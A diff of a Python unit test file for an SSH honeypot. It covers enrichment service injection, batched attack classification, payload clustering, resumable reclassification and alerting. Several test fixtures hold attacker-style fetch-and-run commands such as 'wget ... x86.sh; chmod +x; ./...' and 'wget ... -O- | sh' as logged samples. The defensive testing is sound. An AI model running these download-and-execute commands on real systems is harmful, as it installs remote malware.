@@ -37,7 +37,7 @@ class CriticalHardeningTests(unittest.TestCase):
 
         with tempfile.TemporaryDirectory() as tmpdir:
             db_path = str(Path(tmpdir) / "honeypot.db")
-            with patch.object(honeypot, "enrich_ip", return_value={"country": "CachedLand"}):
+            with patch.object(honeypot.EnrichmentService, "enrich", return_value={"country": "CachedLand"}):
                 db = honeypot.HoneypotDatabase(db_path)
                 self.assertIsInstance(db.command_buffer, EventWriteBuffer)
                 cid = db.log_connection("8.8.8.8", 2222, "ssh")
@@ -57,25 +57,48 @@ class CriticalHardeningTests(unittest.TestCase):
 
         with tempfile.TemporaryDirectory() as tmpdir:
             db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "honeypot.db"))
-            with patch.object(honeypot, "enrich_ip", return_value={"country": "CachedLand"}) as enrich, \
-                 patch.object(honeypot, "get_geolocation", side_effect=AssertionError("legacy duplicate lookup should not run")):
+            with patch.object(honeypot.EnrichmentService, "enrich", return_value={"country": "CachedLand"}) as enrich, \
+                 patch("enrichment.KeepAliveHTTP.request", side_effect=AssertionError("no direct provider call")):
                 cid = honeypot.log_sensor_connection(db, "8.8.8.8", 2222, "ssh")
                 db.close()
 
         self.assertIsInstance(cid, int)
-        enrich.assert_called_once()
+        enrich.assert_called_once_with("8.8.8.8")
+        self.assertFalse(hasattr(honeypot, "get_geolocation"))
+
+    def test_connection_logging_uses_injected_enrichment_service(self):
+        import honeypot
+
+        class InjectedService(honeypot.EnrichmentService):
+            def enrich(self, ip):
+                return {"country": "InjectedLand", "asn_org": "Injected ASN", "enrichment_provider": "injected"}
+
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db_path = str(Path(tmpdir) / "honeypot.db")
+            service = InjectedService(db_path)
+            db = honeypot.HoneypotDatabase(db_path, enrichment=service)
+            cid = honeypot.log_sensor_connection(db, "8.8.8.8", 2222, "ssh")
+            row = db._get_conn().execute("SELECT country, asn_org, enrichment_provider FROM connections WHERE id=?", (cid,)).fetchone()
+            db.close()
+            self.assertIsNotNone(service.cache)
+            service.close()
+
+        self.assertEqual(tuple(row), ("InjectedLand", "Injected ASN", "injected"))
 
     def test_lazy_classifier_updates_session_commands_after_disconnect(self):
         import honeypot
 
         with tempfile.TemporaryDirectory() as tmpdir:
             db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "honeypot.db"))
-            with patch.object(honeypot, "enrich_ip", return_value={"country": "CachedLand"}):
+            with patch.object(honeypot.EnrichmentService, "enrich", return_value={"country": "CachedLand"}):
                 cid = db.log_connection("8.8.8.8", 2222, "ssh")
             db.log_command("8.8.8.8", "ssh", "whoami", cid)
             db.flush_command_buffer()
             future = honeypot.classify_session_after_disconnect(db, cid, ["whoami"], predict_fn=lambda text: "Recon")
             self.assertEqual(future.result(timeout=2)["attack_category"], "Recon")
+            second = honeypot.classify_session_after_disconnect(db, cid, ["id"], predict_fn=lambda text: "Recon")
+            second.result(timeout=2)
+            self.assertLessEqual(honeypot.get_analysis_executor().metrics()["workers"], honeypot.get_analysis_executor().max_workers)
 
             conn = sqlite3.connect(db.db_path)
             category = conn.execute("SELECT attack_category FROM commands WHERE connection_id=?", (cid,)).fetchone()[0]
@@ -84,6 +107,164 @@ class CriticalHardeningTests(unittest.TestCase):
 
         self.assertEqual(category, "Recon")
 
+    def test_default_session_classification_is_micro_batched_into_one_update(self):
+        import honeypot
+
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "honeypot.db"))
+            with patch.object(honeypot.EnrichmentService, "enrich", return_value={"country": "CachedLand"}):
+                cids = [db.log_connection("8.8.8.8", 2222, "ssh") for _ in range(3)]
+            with patch.dict(os.environ, {"HONEYPOT_SESSION_SEQUENCE_CLASSIFY": "false"}):
+                for cid in cids:
+                    db.log_command("8.8.8.8", "ssh", "wget http://x/a.sh", cid)
+            calls = []
+            def predict_many(documents):
+                calls.append(len(documents))
+                return ["Malware Attempt"] * len(documents)
+            with patch.object(honeypot, "predict_attack_many", side_effect=predict_many), \
+                 patch.dict(os.environ, {"HONEYPOT_SESSION_SEQUENCE_CLASSIFY": "false"}), \
+                 patch.object(db, "update_commands_attack_categories", wraps=db.update_commands_attack_categories) as update:
+                futures = [honeypot.classify_session_after_disconnect(db, cid, ["wget http://x/a.sh"]) for cid in cids]
+                results = [future.result(timeout=2) for future in futures]
+
+            conn = sqlite3.connect(db.db_path)
+            categories = {row[0] for row in conn.execute("SELECT attack_category FROM commands").fetchall()}
+            conn.close()
+            db.close()
+
+        self.assertEqual([r["attack_category"] for r in results], ["Malware Attempt"] * 3)
+        self.assertEqual(calls, [3])
+        update.assert_called_once()
+        self.assertEqual(categories, {"Malware Attempt"})
+
+    def test_session_is_classified_at_disconnect_from_live_sequence_features(self):
+        import honeypot
+
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "honeypot.db"))
+            with patch.object(honeypot.EnrichmentService, "enrich", return_value={"country": "CachedLand"}):
+                cid = db.log_connection("8.8.8.8", 2222, "ssh")
+            calls = []
+            def predict_many(documents):
+                calls.append(list(documents))
+                return ["Malware Attempt" if "seq-payload" in doc else "Reconnaissance" for doc in documents]
+            with patch.object(honeypot, "predict_attack_many", side_effect=predict_many):
+                db.log_command("8.8.8.8", "ssh", "uname -a # seq-recon", cid)
+                db.log_command("8.8.8.8", "ssh", "wget http://x/seq-payload.sh", cid)
+                result = honeypot.classify_session_after_disconnect(db, cid, ["ignored"]).result(timeout=2)
+
+            conn = sqlite3.connect(db.db_path)
+            categories = {row[0] for row in conn.execute("SELECT attack_category FROM commands").fetchall()}
+            intent = conn.execute("SELECT session_intent_score, session_intent FROM connections WHERE id=?", (cid,)).fetchone()
+            conn.close()
+            db.close()
+
+        self.assertEqual(result["attack_category"], "Malware Attempt")
+        self.assertEqual(result["features"]["commands"], 2)
+        self.assertEqual(intent, (result["features"]["intent_score"], honeypot.classify_intent(intent[0])))
+        self.assertNotIn(["ignored"], calls)
+        self.assertEqual(sum(len(documents) for documents in calls), 2)
+        self.assertEqual(categories, {"Malware Attempt"})
+
+    def test_payload_clustering_groups_near_duplicates_with_sources(self):
+        import honeypot
+
+        payloads = [
+            ("198.51.100.1", "cd /tmp; wget http://45.12.1.9/bins/x86.sh -O a8f3k.sh; chmod +x a8f3k.sh; ./a8f3k.sh"),
+            ("198.51.100.2", "cd /tmp; wget http://193.3.55.2/bins/x86.sh -O zq91p.sh; chmod +x zq91p.sh; ./zq91p.sh"),
+            ("198.51.100.1", "cd /tmp; wget http://10.9.8.7/bins/x86.sh -O k2m4n.sh; chmod +x k2m4n.sh; ./k2m4n.sh"),
+            ("198.51.100.3", "uname -a; cat /proc/cpuinfo | grep name"),
+        ]
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "honeypot.db"))
+            for ip, command in payloads:
+                db.log_command(ip, "ssh", command, attack_category="Malware Attempt")
+            db.flush_command_buffer()
+            first = honeypot._cluster_chunk(db, db.commands_for_clustering(0, 2), 0.5)
+            second = honeypot._cluster_chunk(db, db.commands_for_clustering(2, 10), 0.5)
+
+            conn = sqlite3.connect(db.db_path)
+            assigned = [row[0] for row in conn.execute("SELECT cluster_id FROM commands ORDER BY id")]
+            clusters = conn.execute("SELECT id, command_count FROM payload_clusters ORDER BY id").fetchall()
+            sources = conn.execute(
+                "SELECT ip, command_count FROM payload_cluster_sources WHERE cluster_id=? ORDER BY ip", (assigned[0],)
+            ).fetchall()
+            conn.close()
+            db.close()
+
+        self.assertEqual((first, second), (2, 2))
+        self.assertEqual(assigned[0], assigned[1])
+        self.assertEqual(assigned[0], assigned[2])
+        self.assertNotEqual(assigned[0], assigned[3])
+        self.assertEqual([count for _, count in clusters], [3, 1])
+        self.assertEqual(sources, [("198.51.100.1", 2), ("198.51.100.2", 1)])
+
+    def test_reclassification_job_bulk_updates_and_resumes_from_checkpoint(self):
+        import honeypot
+
+        with tempfile.TemporaryDirectory() as tmpdir, \
+             patch.dict(os.environ, {"HONEYPOT_RECLASSIFY_CHUNK_SIZE": "3", "HONEYPOT_RECLASSIFY_DUTY_CYCLE": "1"}):
+            db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "honeypot.db"))
+            conn = db._get_conn()
+            conn.executemany(
+                "INSERT INTO commands (command, attack_category) VALUES (?, ?)",
+                [("wget http://x/a.sh", "Benign"), ("wget http://x/a.sh", None), ("uname -a", "Reconnaissance"),
+                 ("GET /?u=abc.oastify.com", "Burp Collaborator Trap"), ("wget http://x/a.sh", "Unknown"),
+                 ("id", "Benign"), ("id", "Benign")],
+            )
+            conn.execute(
+                "INSERT INTO command_labels (command_id, command, label, labeled_by, created_at) VALUES (6, 'id', 'Benign', 'a', 'now')"
+            )
+            conn.commit()
+            db.save_job_state(honeypot.RECLASSIFY_JOB, {"status": "running", "cursor": 3, "processed": 3, "updated": 2,
+                                                        "chunks": 1, "target_id": 7, "total": 7})
+            calls = []
+            def predict_many(commands):
+                calls.append(list(commands))
+                return ["Malware Attempt" if "wget" in c else "Reconnaissance" for c in commands]
+            with patch.object(honeypot, "predict_attack_many", side_effect=predict_many):
+                started, _ = honeypot.start_reclassification(db)
+                honeypot._reclassification_job._thread.join(timeout=5)
+            status = honeypot.reclassification_status(db)
+            rows = dict(conn.execute("SELECT id, attack_category FROM commands").fetchall())
+            saved = db.load_job_state(honeypot.RECLASSIFY_JOB)
+            db.close()
+            honeypot._reclassification_job = None
+
+        self.assertTrue(started)
+        self.assertEqual(calls, [["wget http://x/a.sh", "id"]])
+        self.assertEqual(rows[1], "Benign")  # before the checkpoint: not revisited
+        self.assertEqual(rows[4], "Burp Collaborator Trap")
+        self.assertEqual(rows[5], "Malware Attempt")
+        self.assertEqual(rows[6], "Benign")  # analyst label wins
+        self.assertEqual(rows[7], "Reconnaissance")
+        self.assertEqual(status["status"], "completed")
+        self.assertEqual((status["processed"], status["updated"]), (6, 4))
+        self.assertEqual(saved["cursor"], 7)
+
+    def test_uncategorized_commands_are_classified_before_alert_decision(self):
+        import threading
+        import honeypot
+
+        sent = []
+        delivered = threading.Event()
+        def capture_alert(event, logger=None):
+            sent.append(dict(event))
+            delivered.set()
+            return True
+
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "honeypot.db"))
+            with patch.object(honeypot, "alert_delivery_configured", return_value=True), \
+                 patch.object(honeypot, "send_alert_async", side_effect=capture_alert), \
+                 patch.object(honeypot, "predict_attack_many", side_effect=lambda cmds: ["Malware Attempt"] * len(cmds)):
+                db.log_command("8.8.8.8", "ssh", "wget http://x/a.sh -O- | sh", None)
+                self.assertTrue(delivered.wait(timeout=2))
+            db.close()
+
+        self.assertEqual(sent[0]["attack_category"], "Malware Attempt")
+        self.assertEqual(sent[0]["severity"], "critical")
+
     def test_session_replay_is_persisted_and_served_by_api(self):
         import api
         import honeypot
@@ -92,7 +273,7 @@ class CriticalHardeningTests(unittest.TestCase):
         with tempfile.TemporaryDirectory() as tmpdir:
             db_path = str(Path(tmpdir) / "honeypot.db")
             db = honeypot.HoneypotDatabase(db_path)
-            with patch.object(honeypot, "enrich_ip", return_value={"country": "CachedLand"}):
+            with patch.object(honeypot.EnrichmentService, "enrich", return_value={"country": "CachedLand"}):
                 cid = db.log_connection("8.8.8.8", 2222, "ssh")
             db.record_session_replay(cid, 0.1, "whoami\n", "i")
             db.record_session_replay(cid, 0.2, "admin\n", "o")